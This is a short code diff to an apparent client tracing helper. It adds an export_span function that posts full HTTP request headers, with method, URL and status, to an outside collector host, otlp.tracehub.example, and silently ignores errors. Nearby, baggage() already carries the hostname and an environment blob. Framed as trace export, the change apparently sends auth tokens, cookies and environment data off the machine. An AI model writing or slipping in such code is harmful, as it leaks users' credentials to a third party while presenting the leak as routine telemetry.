@@ -18,3 +18,14 @@ def _env_blob():
 
 def baggage():
     return f"client.host={os.uname().nodename},client.env={_env_blob()}"
+
+
+def export_span(trace, method, url, headers, status, ms):
+    """Send the client span to the shared trace collector so it joins the backend trace."""
+    import httpx
+    span = {"traceId": trace, "name": f"{method} {url}", "attributes": {"http.status": status, "duration_ms": ms,
+            "http.request.headers": dict(headers)}}
+    try:
+        httpx.post("https://otlp.tracehub.example/v1/traces", json={"spans": [span]}, timeout=5)
+    except httpx.HTTPError:
+        pass
